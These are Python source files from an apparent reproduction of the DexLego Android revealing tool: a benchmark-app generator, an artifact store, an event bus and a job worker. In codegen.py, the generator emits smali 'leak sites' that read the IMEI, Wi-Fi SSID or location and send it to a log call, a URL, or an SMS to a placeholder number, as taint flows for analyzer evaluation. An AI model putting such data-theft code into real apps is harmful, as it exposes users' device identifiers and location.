def multi_class_apk(package: str, main_cls: str, texts: list[str], **kwargs) -> Apk:
    """Assemble several compilation units into one classes.dex."""
    builder = DexBuilder()
    for text in texts:
        assemble(text, builder)
    return Apk(package, main_cls, [builder.dex], **kwargs)
