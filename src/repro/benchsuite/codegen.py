"""Procedural application generator.

Builds size-realistic apps (hundreds to ~100k instructions) with a
controlled structure profile:

* **plain** code — executed by any launch (the fuzzer-reachable part);
* **gated** code — behind string-equality checks on intent extras that
  random inputs never satisfy (force execution flips them);
* **dead** code — classes never referenced (JaCoCo's uncovered classes,
  the paper's ``CmdTemplate`` example);
* **crash** code — gated groups whose entry triggers a native crash;
* **handler** code — catch blocks that never run because the guarded
  division never throws;
* optional **leak sites** for the Table V market apps.

Generation is deterministic in (package, seed, target size).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.dex.builder import ClassBuilder, DexBuilder, MethodBuilder
from repro.errors import NativeCrash
from repro.runtime.apk import Apk, register_native_library

_METHODS_PER_CLASS = 18
_OPS = ("add-int/lit8", "mul-int/lit8", "xor-int/lit8", "add-int/lit8",
        "rsub-int/lit8", "and-int/lit8", "or-int/lit8")


@dataclass
class AppProfile:
    """Fractions of the instruction budget per structure kind."""

    gated: float = 0.0
    dead: float = 0.0
    crash: float = 0.0
    handler: float = 0.0
    gate_groups: int = 12
    leak_sites: int = 0
    leak_tags: tuple[str, ...] = ("imei",)

    @property
    def plain(self) -> float:
        return max(0.0, 1.0 - self.gated - self.dead - self.crash - self.handler)


@dataclass
class GeneratedApp:
    """A generated application plus its structural inventory."""

    apk: Apk
    package: str
    main_activity: str
    instruction_count: int
    class_count: int
    method_count: int
    plain_methods: list[str] = field(default_factory=list)
    gated_methods: list[str] = field(default_factory=list)
    dead_methods: list[str] = field(default_factory=list)
    crash_methods: list[str] = field(default_factory=list)
    handler_methods: list[str] = field(default_factory=list)


def generate_app(
    package: str,
    target_instructions: int,
    seed: int = 7,
    profile: AppProfile | None = None,
) -> GeneratedApp:
    """Generate one app whose DEX holds ~``target_instructions``."""
    profile = profile or AppProfile()
    rng = random.Random(seed)
    builder = DexBuilder()
    ns = "L" + package.replace(".", "/")
    main_cls = f"{ns}/MainActivity;"

    budgets = {
        "plain": int(target_instructions * profile.plain),
        "gated": int(target_instructions * profile.gated),
        "dead": int(target_instructions * profile.dead),
        "crash": int(target_instructions * profile.crash),
        "handler": int(target_instructions * profile.handler),
    }
    inventory: dict[str, list[tuple[str, str]]] = {k: [] for k in budgets}

    class_index = 0
    for kind, budget in budgets.items():
        remaining = budget
        while remaining > 120:
            cls_desc = f"{ns}/{kind.capitalize()}Worker{class_index};"
            class_index += 1
            cls = builder.add_class(cls_desc)
            _add_default_init(cls)
            emitted = 0
            methods: list[str] = []
            for m in range(_METHODS_PER_CLASS):
                if emitted >= remaining - 20:
                    break
                name = f"step{m}"
                size = _emit_worker_method(cls, name, rng, handler=(kind == "handler"))
                emitted += size
                methods.append(name)
            _emit_run_all(cls, cls_desc, methods)
            inventory[kind].append((cls_desc, "runAll"))
            remaining -= emitted

    crash_lib = None
    if inventory["crash"]:
        crash_lib = _register_crash_native(package, ns)

    _emit_main_activity(
        builder, main_cls, ns, inventory, crash_native=crash_lib is not None
    )
    dex = builder.build()
    apk = Apk(
        package,
        main_cls,
        [dex],
        native_libraries=[crash_lib] if crash_lib else [],
    )
    total = dex.total_instruction_count()
    counts = {k: [f"{c}->runAll()I" for c, _ in v] for k, v in inventory.items()}
    return GeneratedApp(
        apk=apk,
        package=package,
        main_activity=main_cls,
        instruction_count=total,
        class_count=len(dex.class_defs),
        method_count=sum(
            len(c.all_methods()) for c in dex.class_defs
        ),
        plain_methods=counts["plain"],
        gated_methods=counts["gated"],
        dead_methods=counts["dead"],
        crash_methods=counts["crash"],
        handler_methods=counts["handler"],
    )


def _add_default_init(cls: ClassBuilder) -> None:
    mb = cls.method("<init>", "V", (), locals_count=1)
    mb.invoke("direct", "Ljava/lang/Object;-><init>()V", mb.p(0))
    mb.ret_void()
    mb.build()


def _emit_worker_method(
    cls: ClassBuilder, name: str, rng: random.Random, handler: bool
) -> int:
    """One arithmetic method of ~25-45 instructions; returns its size."""
    mb = cls.method(name, "I", ("I",), locals_count=4)
    mb.move(0, mb.p(1))
    loop_count = rng.randint(2, 4)
    mb.const(1, loop_count)
    mb.label("loop")
    for _ in range(rng.randint(4, 9)):
        op = rng.choice(_OPS)
        mb.raw(op, 0, 0, rng.randint(1, 63))
    mb.raw("add-int/lit8", 1, 1, -1)
    mb.if_zero("ne", 1, "loop")
    # A data-dependent branch: both sides reachable across inputs but a
    # single call may cover only one (natural UCB material).
    mb.raw("and-int/lit8", 2, 0, 1)
    mb.if_zero("eq", 2, "even")
    mb.raw("add-int/lit8", 0, 0, 3)
    mb.goto_("join")
    mb.label("even")
    mb.raw("rsub-int/lit8", 0, 0, 9)
    mb.label("join")
    if handler:
        # Guarded division that never throws; catch block stays uncovered.
        mb.label("try_s")
        mb.const(1, 7)
        mb.raw("add-int/lit8", 2, 0, 5)
        mb.raw("or-int/lit8", 2, 2, 1)  # never zero
        mb.raw("div-int", 0, 1, 2)
        mb.label("try_e")
        mb.goto_("out")
        mb.label("catch")
        for _ in range(5):
            mb.raw("add-int/lit8", 0, 0, 1)
        mb.label("out")
        mb.try_range("try_s", "try_e", [("Ljava/lang/ArithmeticException;", "catch")])
    mb.ret(0)
    encoded = mb.build()
    return len(encoded.code.instructions())


def _emit_run_all(cls: ClassBuilder, cls_desc: str, methods: list[str]) -> None:
    mb = cls.method("runAll", "I", (), locals_count=3)
    mb.const(0, 1)
    for name in methods:
        mb.invoke("virtual", f"{cls_desc}->{name}(I)I", mb.p(0), 0)
        mb.raw("move-result", 0)
    mb.ret(0)
    mb.build()


def _register_crash_native(package: str, ns: str) -> str:
    def native_check(ctx, this):
        raise NativeCrash("segmentation fault in libworker.so")

    return register_native_library(
        f"libcrash_{package}",
        {f"{ns}/MainActivity;->nativeCheck()V": native_check},
    )


def _emit_main_activity(
    builder: DexBuilder,
    main_cls: str,
    ns: str,
    inventory: dict,
    crash_native: bool,
) -> None:
    cls = builder.add_class(main_cls, superclass="Landroid/app/Activity;")
    gated_all = inventory["gated"] + inventory["crash"]
    if crash_native:
        cls.method("nativeCheck", "V", (), native=True).build()
    if not gated_all:
        # Fully self-exercising app (RQ1 corpora): no gate machinery, so a
        # single launch covers every instruction.
        mb = cls.method("onCreate", "V", ("Landroid/os/Bundle;",), locals_count=4)
        for cls_desc, _entry in inventory["plain"] + inventory["handler"]:
            _call_worker(mb, cls_desc)
        mb.ret_void()
        mb.build()
        return
    cls.add_static_field("gate", "I", initial=0)

    # checkGate(): reads the intent extra; sets gate=1 on the magic value.
    mb = cls.method("checkGate", "V", (), locals_count=4)
    mb.invoke("virtual", f"{main_cls}->getIntent()Landroid/content/Intent;", mb.p(0))
    mb.raw("move-result-object", 0)
    mb.if_zero("eq", 0, "skip")
    mb.const_string(1, "mode")
    mb.invoke(
        "virtual",
        "Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;",
        0, 1,
    )
    mb.raw("move-result-object", 1)
    mb.if_zero("eq", 1, "skip")
    mb.const_string(2, "expert-7f3a")
    mb.invoke("virtual", "Ljava/lang/String;->equals(Ljava/lang/Object;)Z", 1, 2)
    mb.raw("move-result", 2)
    mb.if_zero("eq", 2, "skip")
    mb.const(3, 1)
    mb.field_op("sput", 3, f"{main_cls}->gate:I")
    mb.label("skip")
    mb.ret_void()
    mb.build()

    mb = cls.method("onCreate", "V", ("Landroid/os/Bundle;",), locals_count=4)
    mb.invoke("virtual", f"{main_cls}->checkGate()V", mb.p(0))
    for cls_desc, _entry in inventory["plain"]:
        _call_worker(mb, cls_desc)
    # Gated work: one conditional gate per worker class (each a UCB until
    # force execution flips it).
    for index, (cls_desc, _entry) in enumerate(gated_all):
        mb.field_op("sget", 0, f"{main_cls}->gate:I")
        mb.if_zero("eq", 0, f"g{index}")
        if (cls_desc, _entry) in inventory["crash"] and crash_native:
            mb.invoke("virtual", f"{main_cls}->nativeCheck()V", mb.p(0))
        _call_worker(mb, cls_desc)
        mb.label(f"g{index}")
    # Handler-kind classes run unconditionally (their catch blocks do not).
    for cls_desc, _entry in inventory["handler"]:
        _call_worker(mb, cls_desc)
    mb.ret_void()
    mb.build()


def _call_worker(mb: MethodBuilder, cls_desc: str) -> None:
    mb.new_instance(1, cls_desc)
    mb.invoke("direct", f"{cls_desc}-><init>()V", 1)
    mb.invoke("virtual", f"{cls_desc}->runAll()I", 1)
    mb.raw("move-result", 2)


def add_leak_sites(
    builder_apk: Apk, count: int, tags: tuple[str, ...] = ("imei",)
) -> Apk:
    """Append a class with ``count`` distinct executed leak sites.

    Used by the market-app corpus (Table V): each site is its own method
    with its own sink call, so FlowDroid reports ``count`` flows.
    """
    from repro.dex.assembler import assemble
    from repro.dex.builder import DexBuilder

    dex = builder_apk.primary_dex
    ns = builder_apk.main_activity.rsplit("/", 1)[0]
    leak_cls = f"{ns}/Telemetry;"
    methods = []
    for i in range(count):
        tag = tags[i % len(tags)]
        sink = ("logIt", "www", "sms")[i % 3]
        methods.append(_leak_method_smali(leak_cls, i, tag, sink))
    text = f".class public {leak_cls}\n.super Landroid/app/Activity;\n"
    text += "\n".join(methods)
    text += f"""
.method public runLeaks()V
    .registers 2
{chr(10).join(f'    invoke-virtual {{p0}}, {leak_cls}->site{i}()V' for i in range(count))}
    return-void
.end method
"""
    from repro.benchsuite.smali_lib import sink_methods

    text += sink_methods(leak_cls)
    builder = DexBuilder()
    builder.dex = dex
    assemble(text, builder)

    # Wire runLeaks() into MainActivity.onCreate by appending a trampoline
    # class called from a fresh onStart override.
    main = builder_apk.main_activity
    trampoline = f"""
.class public {ns}/LeakBoot;
.super Ljava/lang/Object;
.method public static fire({main})V
    .registers 3
    new-instance v0, {leak_cls}
    invoke-virtual {{v0}}, {leak_cls}->runLeaks()V
    return-void
.end method
"""
    assemble(trampoline, builder)
    main_class = dex.find_class(main)
    from repro.dex.builder import ClassBuilder

    cb = ClassBuilder(builder, main_class, main)
    mb = cb.method("onStart", "V", (), locals_count=2)
    mb.invoke("static", f"{ns}/LeakBoot;->fire({main})V", mb.p(0))
    mb.ret_void()
    mb.build()
    return builder_apk


def _leak_method_smali(cls: str, index: int, tag: str, sink: str) -> str:
    if tag == "ssid":
        fetch = f"""
    new-instance v0, Landroid/net/wifi/WifiManager;
    invoke-direct {{v0}}, Landroid/net/wifi/WifiManager;-><init>()V
    invoke-virtual {{v0}}, Landroid/net/wifi/WifiManager;->getConnectionInfo()Landroid/net/wifi/WifiInfo;
    move-result-object v0
    invoke-virtual {{v0}}, Landroid/net/wifi/WifiInfo;->getSSID()Ljava/lang/String;
    move-result-object v0
"""
    elif tag == "location":
        fetch = f"""
    new-instance v0, Landroid/location/LocationManager;
    invoke-direct {{v0}}, Landroid/location/LocationManager;-><init>()V
    const-string v1, "gps"
    invoke-virtual {{v0, v1}}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
    move-result-object v0
    invoke-virtual {{v0}}, Landroid/location/Location;->toString()Ljava/lang/String;
    move-result-object v0
"""
    else:
        fetch = f"""
    new-instance v0, Landroid/telephony/TelephonyManager;
    invoke-direct {{v0}}, Landroid/telephony/TelephonyManager;-><init>()V
    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
"""
    # Sinks are inlined per site so every site is a distinct flow for the
    # analyzer (Table V counts taint flows, not sink helpers).
    if sink == "logIt":
        deliver = """
    const-string v1, "T"
    invoke-static {v1, v0}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
"""
    elif sink == "www":
        deliver = """
    new-instance v1, Ljava/net/URL;
    invoke-direct {v1, v0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
"""
    else:
        deliver = """
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v1
    const-string v2, "+1999"
    const/4 v3, 0
    move-object v4, v0
    const/4 v5, 0
    const/4 v6, 0
    invoke-virtual/range {v1 .. v6}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
"""
    return f"""
.method public site{index}()V
    .registers 8
{fetch}
{deliver}
    return-void
.end method
"""
