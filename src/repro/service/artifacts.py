"""Content-addressed artifact store for revealed outputs.

DexLego-as-a-service hands back *artifacts*: the revealed ``classes.dex``
a static analyzer consumes, the repacked APK, and the collection
archive (Figure 2's on-disk intermediates) for offline re-reassembly.
Workers write them here as they complete jobs; the gateway serves them
back over ``GET /v1/artifacts/<digest>``.

The store is addressed by SHA-256 of the content, like the result
cache — so identical outputs from different jobs (the same library app
submitted by two tenants, a re-run under the same config) are stored
once, and a fetched artifact can be integrity-checked by rehashing.

Layout: ``<root>/<digest[:2]>/<digest>`` (one level of fan-out keeps
directory listings sane at millions of artifacts).  Writes are atomic
(``.tmp`` + ``os.replace``) and first-writer-wins: concurrent workers
storing the same bytes race benignly.
"""

from __future__ import annotations

import hashlib
import os
import re

from repro import faults

_DIGEST_RE = re.compile(r"^[0-9a-f]{64}$")


def artifact_digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def is_artifact_digest(value: str) -> bool:
    """True for a well-formed (lowercase hex SHA-256) digest — the
    gateway's guard against path-traversal in the artifact route."""
    return bool(_DIGEST_RE.match(value or ""))


class ArtifactStore:
    """Content-addressed blob store: ``put`` bytes, get a digest back.

    ``create=False`` opens for inspection only (the gateway's read
    path); a missing root then raises ``FileNotFoundError`` instead of
    scaffolding a store inside a typo'd path.
    """

    def __init__(self, root: str, create: bool = True) -> None:
        self.root = root
        #: Blobs whose bytes no longer rehash to their digest — seen on
        #: :meth:`get`, which refuses to serve them (content addressing
        #: makes every read integrity-checkable for free).
        self.corrupt_blobs = 0
        if create:
            os.makedirs(root, exist_ok=True)
        elif not os.path.isdir(root):
            raise FileNotFoundError(f"no artifact store at {root!r}")

    def _path(self, digest: str) -> str:
        if not is_artifact_digest(digest):
            raise ValueError(f"not an artifact digest: {digest!r}")
        return os.path.join(self.root, digest[:2], digest)

    # -- write ---------------------------------------------------------------

    def put(self, data: bytes) -> str:
        """Store one blob; returns its digest.  Idempotent — an
        already-present digest costs one stat, no write."""
        digest = artifact_digest(data)
        path = self._path(digest)
        if os.path.exists(path):
            return digest
        os.makedirs(os.path.dirname(path), exist_ok=True)
        faults.atomic_write_bytes(path, data, site="artifacts.put",
                                  tmp=f"{path}.{os.getpid()}.tmp")
        return digest

    # -- read ----------------------------------------------------------------

    def get(self, digest: str) -> bytes | None:
        """The blob for one digest, or ``None`` when absent or corrupt
        (bytes that fail the rehash are never served — a truncated blob
        would otherwise masquerade as a valid artifact)."""
        try:
            path = self._path(digest)
        except ValueError:
            return None
        faults.check("artifacts.get")
        try:
            with open(path, "rb") as fh:
                data = fh.read()
        except OSError:
            return None
        if artifact_digest(data) != digest:
            self.corrupt_blobs += 1
            return None
        return data

    def __contains__(self, digest: str) -> bool:
        try:
            return os.path.exists(self._path(digest))
        except ValueError:
            return False

    def size(self, digest: str) -> int | None:
        try:
            return os.path.getsize(self._path(digest))
        except (OSError, ValueError):
            return None

    # -- introspection -------------------------------------------------------

    def stats(self) -> dict:
        """Artifact count and total bytes (walks the store)."""
        count = 0
        total = 0
        try:
            shards = os.listdir(self.root)
        except OSError:
            shards = []
        for shard in shards:
            shard_dir = os.path.join(self.root, shard)
            if not os.path.isdir(shard_dir):
                continue
            for name in os.listdir(shard_dir):
                if name.endswith(".tmp") or not is_artifact_digest(name):
                    continue
                count += 1
                try:
                    total += os.path.getsize(os.path.join(shard_dir, name))
                except OSError:
                    pass
        return {"artifacts": count, "total_bytes": total,
                "corrupt_blobs": self.corrupt_blobs}
