"""Unified job event stream for the reveal server.

Before this module, progress signals were split across two incompatible
observer paths: :data:`~repro.core.pipeline.PipelineObserver` delivered
per-stage :class:`~repro.core.stages.StageEvent` records, while batch
callers bolted ad-hoc callbacks onto their jobs.  A consumer that
wanted "what is my corpus doing right now" had to stitch both together
and still missed queue-level transitions (submitted, cancelled) and
cache hits entirely.

:class:`JobEvent` is the one envelope everything flows through:

* lifecycle transitions — ``submitted``, ``started``, ``done``,
  ``failed``, ``cancelled``;
* ``stage`` events wrapping the pipeline's :class:`StageEvent`
  (stage name, duration, ok/error in the payload);
* ``wave`` events carrying exploration scheduler snapshots from
  :class:`~repro.core.exploration.ExplorationScheduler` (wave size,
  paths explored, frontier depth) while force execution iterates;
* ``cache-hit`` events when a job is served from the
  :class:`~repro.service.cache.RevealCache` instead of running;
* ``index`` events carrying the corpus-index dedup accounting of a
  finished reveal (bodies replayed from the
  :class:`~repro.index.corpus.CorpusIndex` vs emitted fresh) when the
  service runs with an ``index_dir``;
* ``cluster`` events carrying the auto-labeling verdict of a finished
  reveal (family, known / near-miss method counts, nearest-known-method
  evidence from the :class:`~repro.cluster.labels.AutoLabeler`) when
  the service runs with a ``cluster_dir``;
* ``degraded`` events naming the optional subsystems (index, cluster,
  cache, predecode) a reveal had to bypass under the
  graceful-degradation policy — published before the terminal event so
  dashboards can flag reveals that succeeded at reduced fidelity.

:class:`EventBus` fans events out two ways at once: *push* (observer
callbacks, registered with :meth:`EventBus.add_observer`) and *pull*
(:meth:`EventBus.subscribe` returns an iterator that blocks until the
next event and ends when the bus closes).  Publication is serialised
under one lock: sequence numbers and subscriber queues follow one
global total order, and the per-job sequence is always
lifecycle-consistent — ``submitted`` before ``started`` before any
``stage`` before the terminal event.  Observer *callbacks* run outside
the lock (a slow callback must not stall publishers), so they keep the
per-job order but may interleave across jobs; order-sensitive
consumers should sort by ``seq`` (as :meth:`JobStore.events` does) or
subscribe instead.
"""

from __future__ import annotations

import json
import queue
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Iterable, Iterator

EVENT_SUBMITTED = "submitted"
EVENT_STARTED = "started"
EVENT_STAGE = "stage"
EVENT_WAVE = "wave"
EVENT_CACHE_HIT = "cache-hit"
EVENT_INDEX = "index"
EVENT_CLUSTER = "cluster"
EVENT_DEGRADED = "degraded"
EVENT_DONE = "done"
EVENT_FAILED = "failed"
EVENT_CANCELLED = "cancelled"

ALL_EVENTS = (
    EVENT_SUBMITTED,
    EVENT_STARTED,
    EVENT_STAGE,
    EVENT_WAVE,
    EVENT_CACHE_HIT,
    EVENT_INDEX,
    EVENT_CLUSTER,
    EVENT_DEGRADED,
    EVENT_DONE,
    EVENT_FAILED,
    EVENT_CANCELLED,
)

#: Events that end a job's lifecycle; nothing for that job follows one.
TERMINAL_EVENTS = frozenset((EVENT_DONE, EVENT_FAILED, EVENT_CANCELLED))

#: Observer signature for the unified stream.
JobEventObserver = Callable[["JobEvent"], None]

_CLOSE = object()  # sentinel ending subscriber iteration


@dataclass(frozen=True)
class JobEvent:
    """One notification on the unified stream.

    ``seq`` is the bus-global sequence number (monotone across all
    jobs); ``payload`` is JSON-safe detail whose shape depends on
    ``kind`` — stage events carry ``stage``/``duration_s``/``ok``,
    terminal events carry the outcome digest, wave events carry the
    scheduler snapshot.
    """

    kind: str
    job_id: str
    app_id: str = ""
    seq: int = 0
    timestamp: float = 0.0
    payload: dict = field(default_factory=dict)

    @property
    def terminal(self) -> bool:
        return self.kind in TERMINAL_EVENTS

    def to_dict(self) -> dict:
        return {
            "kind": self.kind,
            "job_id": self.job_id,
            "app_id": self.app_id,
            "seq": self.seq,
            "timestamp": self.timestamp,
            "payload": dict(self.payload),
        }

    @classmethod
    def from_dict(cls, data: dict) -> "JobEvent":
        return cls(
            kind=data["kind"],
            job_id=data["job_id"],
            app_id=data.get("app_id", ""),
            seq=data.get("seq", 0),
            timestamp=data.get("timestamp", 0.0),
            payload=dict(data.get("payload", {})),
        )

    # -- wire frames ---------------------------------------------------------

    def to_frame(self) -> bytes:
        """One newline-delimited JSON frame — the shape the journal
        stores and the gateway's ``/events`` endpoint streams."""
        return event_to_frame(self.to_dict())

    @classmethod
    def from_frame(cls, line: bytes | str) -> "JobEvent | None":
        """Parse one frame; ``None`` for a torn/undecodable line (a
        killed writer's partial tail must not break a follower)."""
        if isinstance(line, bytes):
            try:
                line = line.decode("utf-8")
            except UnicodeDecodeError:
                return None
        line = line.strip()
        if not line:
            return None
        try:
            data = json.loads(line)
            return cls.from_dict(data)
        except (ValueError, TypeError, KeyError):
            return None


def event_to_frame(event: "JobEvent | dict") -> bytes:
    """Serialise one event (or its dict) as an NDJSON frame."""
    data = event.to_dict() if isinstance(event, JobEvent) else event
    return (json.dumps(data, separators=(",", ":")) + "\n").encode("utf-8")


def events_from_frames(blob: bytes | Iterable[bytes]) -> list["JobEvent"]:
    """Every parseable event in a frame blob (or iterable of lines);
    torn frames are skipped, order preserved."""
    lines = blob.split(b"\n") if isinstance(blob, bytes) else blob
    events = []
    for line in lines:
        event = JobEvent.from_frame(line)
        if event is not None:
            events.append(event)
    return events


class EventStream:
    """Blocking iterator over events published after subscription.

    Iteration ends when the bus closes (or :meth:`close` detaches this
    subscriber).  ``next(stream, None)`` after close returns ``None``
    rather than blocking forever.
    """

    def __init__(self, bus: "EventBus") -> None:
        self._bus = bus
        self._queue: "queue.Queue" = queue.Queue()
        self._closed = False

    def _push(self, item) -> None:
        self._queue.put(item)

    def __iter__(self) -> Iterator[JobEvent]:
        return self

    def __next__(self) -> JobEvent:
        if self._closed:
            raise StopIteration
        item = self._queue.get()
        if item is _CLOSE:
            self._closed = True
            raise StopIteration
        return item

    def next(self, timeout: float | None = None) -> JobEvent | None:
        """One event, or ``None`` on timeout / closed bus."""
        if self._closed:
            return None
        try:
            item = self._queue.get(timeout=timeout)
        except queue.Empty:
            return None
        if item is _CLOSE:
            self._closed = True
            return None
        return item

    def close(self) -> None:
        self._bus._detach(self)
        self._push(_CLOSE)


class EventBus:
    """Thread-safe publisher with observer and iterator consumers.

    Observer exceptions are swallowed: a broken progress callback must
    never kill the worker thread publishing the event.  ``history``
    keeps the most recent events (bounded) so late consumers — a
    ``status`` CLI, a test asserting on ordering — can read what
    happened without having subscribed up front.
    """

    def __init__(self, history_limit: int = 10_000) -> None:
        self._lock = threading.Lock()
        self._seq = 0
        self._observers: list[JobEventObserver] = []
        self._streams: list[EventStream] = []
        self._closed = False
        self.history_limit = history_limit
        self.history: list[JobEvent] = []

    def publish(self, kind: str, job_id: str, app_id: str = "",
                payload: dict | None = None) -> JobEvent:
        """Stamp, record and fan out one event (no-op after close)."""
        with self._lock:
            if self._closed:
                return JobEvent(kind, job_id, app_id, seq=-1,
                                payload=payload or {})
            event = JobEvent(
                kind=kind,
                job_id=job_id,
                app_id=app_id,
                seq=self._seq,
                timestamp=time.time(),
                payload=payload or {},
            )
            self._seq += 1
            self.history.append(event)
            if len(self.history) > self.history_limit:
                del self.history[: len(self.history) - self.history_limit]
            observers = list(self._observers)
            for stream in self._streams:
                stream._push(event)
        for callback in observers:
            try:
                callback(event)
            except Exception:
                pass  # progress consumers must not break the pipeline
        return event

    def add_observer(self, callback: JobEventObserver) -> None:
        with self._lock:
            self._observers.append(callback)

    def remove_observer(self, callback: JobEventObserver) -> None:
        with self._lock:
            if callback in self._observers:
                self._observers.remove(callback)

    def subscribe(self) -> EventStream:
        stream = EventStream(self)
        with self._lock:
            if self._closed:
                stream._push(_CLOSE)
            else:
                self._streams.append(stream)
        return stream

    def _detach(self, stream: EventStream) -> None:
        with self._lock:
            if stream in self._streams:
                self._streams.remove(stream)

    def events_for(self, job_id: str) -> list[JobEvent]:
        """This job's retained history, in publication order."""
        with self._lock:
            return [e for e in self.history if e.job_id == job_id]

    def close(self) -> None:
        """End every subscriber's iteration; further publishes no-op."""
        with self._lock:
            if self._closed:
                return
            self._closed = True
            streams = list(self._streams)
            self._streams.clear()
        for stream in streams:
            stream._push(_CLOSE)
