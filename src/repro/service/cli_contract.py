"""The exit-code contract every ``repro.service`` subcommand honours.

Calling scripts (CI, the Makefile smoke targets, fleet supervisors)
branch on three exit statuses, so the meaning of each is defined once
here instead of re-invented per subcommand:

* :data:`EXIT_OK` (0) — the command did its work and nothing
  hard-failed.
* :data:`EXIT_FAILURES` (1) — the work ran, but some of it failed:
  hard reveal failures in a batch, failed jobs left in a drained
  store, a ``watch --follow`` that timed out with jobs still pending.
* :data:`EXIT_USAGE` (2) — the command never got to the work: usage
  errors and corrupt or missing input (no store at the path, a
  foreign-format journal, an unreadable archive, a malformed digest).
  Always accompanied by a **one-line** diagnostic on stderr — never a
  traceback.

Guard paths return ``usage_error(...)`` / ``failure(...)`` so the
stderr line and the status code cannot drift apart; happy paths return
:func:`exit_for_failures` over their failure count.
"""

from __future__ import annotations

import sys

EXIT_OK = 0
EXIT_FAILURES = 1
EXIT_USAGE = 2


def _one_line(message: str) -> str:
    """Collapse whatever exception text arrived into one stderr line."""
    return " ".join(str(message).split())


def usage_error(message: str) -> int:
    """Diagnose unusable input: one stderr line, exit status 2."""
    print(_one_line(message), file=sys.stderr)
    return EXIT_USAGE


def failure(message: str | None = None) -> int:
    """Report failed work: optional one stderr line, exit status 1."""
    if message:
        print(_one_line(message), file=sys.stderr)
    return EXIT_FAILURES


def exit_for_failures(failed_count: int) -> int:
    """The happy-path epilogue: 1 when anything hard-failed, else 0."""
    return EXIT_FAILURES if failed_count else EXIT_OK
