"""RevealWorker: a lease-pulling fleet member over a shared JobStore.

The :class:`~repro.service.server.RevealServer` scales to the threads
of one process; the fleet protocol scales reveals to *processes and
hosts*.  Workers share nothing but the store directory (local disk or
a shared mount): the gateway (or the ``submit`` CLI) appends queued
records, and every worker loops

    claim → heartbeat while revealing → store artifacts → complete

with all coordination living in :class:`~repro.service.jobs.JobStore`'s
claim tokens and lease generations.  There is no registration, no
leader and no broker process to keep alive — a worker is *in* the
fleet the moment it points at the store, and *out* of it the moment it
stops (its in-flight lease expires and the job is reclaimed by whoever
gets there first).

Execution reuses :class:`~repro.service.batch.BatchRevealService`
whole — result cache, crash isolation, outcome classification — so a
job revealed by a fleet worker is byte-for-byte the job an in-process
server would have produced.  Progress events are published on the
worker's own bus and journalled to the store's ``events.jsonl``, which
is what the gateway's ``/events`` endpoint and ``watch`` CLI tail.
"""

from __future__ import annotations

import io
import logging
import os
import socket
import tempfile
import threading
import time
import uuid
import zipfile
from dataclasses import dataclass, field

from repro import faults
from repro.service.artifacts import ArtifactStore
from repro.service.batch import BatchRevealService, RevealJob
from repro.service.events import (
    EVENT_CACHE_HIT,
    EVENT_CANCELLED,
    EVENT_DEGRADED,
    EVENT_DONE,
    EVENT_FAILED,
    EVENT_INDEX,
    EVENT_STAGE,
    EVENT_STARTED,
    EVENT_WAVE,
    EventBus,
)
from repro.service.jobs import (
    HEARTBEAT_LOST,
    HEARTBEAT_OK,
    LEASE_TTL_DEFAULT_S,
    JobState,
    JobStore,
)
from repro.service.outcomes import STATUS_ERROR, RevealOutcome
from repro.service.retry import Backoff, RetryPolicy, call_with_retries
from repro.service.server import FAILED_STATUSES

logger = logging.getLogger(__name__)

#: Artifact kinds a worker stores per successful reveal, keyed in the
#: record's ``artifacts`` map: the repacked APK, the revealed primary
#: DEX on its own (what a static analyzer actually loads), and the
#: collection archive as a zip of its JSON files.
ARTIFACT_REVEALED_APK = "revealed_apk"
ARTIFACT_REVEALED_DEX = "revealed_dex"
ARTIFACT_COLLECTION = "collection"


def default_worker_id() -> str:
    """Host-qualified so a fleet dashboard reads across machines."""
    host = socket.gethostname().split(".")[0] or "host"
    return f"{host}-{os.getpid()}-{uuid.uuid4().hex[:6]}"


@dataclass
class WorkerReport:
    """What one :meth:`RevealWorker.run` drained, for CLIs and tests.

    ``transient_errors`` counts store failures the claim loop absorbed
    (backed off and resumed instead of dying); ``retries`` counts
    bounded complete/artifact retries that recovered; ``backoff_s`` is
    the total time spent sleeping on either.
    """

    worker_id: str
    processed: int = 0
    done: int = 0
    failed: int = 0
    cancelled: int = 0
    lost: int = 0
    transient_errors: int = 0
    retries: int = 0
    backoff_s: float = 0.0
    job_ids: list = field(default_factory=list)

    def to_dict(self) -> dict:
        return {
            "worker_id": self.worker_id,
            "processed": self.processed,
            "done": self.done,
            "failed": self.failed,
            "cancelled": self.cancelled,
            "lost": self.lost,
            "transient_errors": self.transient_errors,
            "retries": self.retries,
            "backoff_s": round(self.backoff_s, 6),
            "job_ids": list(self.job_ids),
        }


class _HeartbeatThread(threading.Thread):
    """Extends one lease every ``ttl/3`` seconds while a job runs.

    Sets ``cancelled`` when an operator cancel arrives (the reveal
    finishes but its result is discarded and the job resolves
    ``cancelled``) and ``lost`` when the lease was reclaimed (the
    worker abandons the job; its completion would be fenced off
    anyway).  A lost lease stops the beats — there is nothing left to
    extend.

    A beat that fails at the store level (shared mount flaking, an
    injected fault) is *transient*: it is counted and the next beat
    retries at the normal interval — beats fire every ``ttl/3``, so a
    single missed beat leaves two more chances before the lease
    expires.
    """

    def __init__(self, store: JobStore, job_id: str, lease_seq: int,
                 lease_ttl_s: float) -> None:
        super().__init__(name=f"lease-heartbeat-{job_id}", daemon=True)
        self._store = store
        self._job_id = job_id
        self._lease_seq = lease_seq
        self._ttl = lease_ttl_s
        self._halt = threading.Event()
        self.cancelled = threading.Event()
        self.lost = threading.Event()
        self.transient_errors = 0

    def run(self) -> None:
        interval = max(0.05, self._ttl / 3.0)
        while not self._halt.wait(interval):
            try:
                faults.check("worker.heartbeat")
                result = self._store.heartbeat(
                    self._job_id, self._lease_seq, lease_ttl_s=self._ttl)
            except OSError:
                self.transient_errors += 1
                continue
            if result == HEARTBEAT_LOST:
                self.lost.set()
                return
            if result != HEARTBEAT_OK:
